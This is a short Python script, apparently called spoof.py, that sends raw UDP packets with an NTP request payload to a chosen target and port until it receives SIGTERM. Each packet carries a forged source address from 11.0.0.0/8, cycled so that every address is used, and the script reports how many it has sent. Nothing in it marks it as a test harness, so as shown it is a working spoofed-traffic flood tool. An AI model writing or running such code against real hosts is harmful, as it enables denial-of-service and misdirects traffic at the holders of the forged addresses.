"""Sends NTP requests, each from another forged address of 11.0.0.0/8, until SIGTERM.

    python3 spoof.py TARGET PORT COUNT

Prints "sent COUNT" to standard error when COUNT requests have left, and the total at the end.
"""

import signal
import socket
import struct
import sys

target, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
told = []
signal.signal(signal.SIGTERM, lambda *_: told.append(True))

payload = bytes([0x23]) + bytes(39) + bytes(range(1, 9))
udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0)
packet = bytearray(ip + bytes(4) + socket.inet_aton(target) + udp)

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
while not told:
    # An odd factor visits every address once before any comes again.
    struct.pack_into("!I", packet, 12, 11 << 24 | sent * 9998737 & 0xFFFFFF)
    raw.sendto(packet, (target, 0))
    sent += 1
    if sent == count:
        print("sent", sent, file=sys.stderr, flush=True)
print("sent", sent, "in all", file=sys.stderr, flush=True)
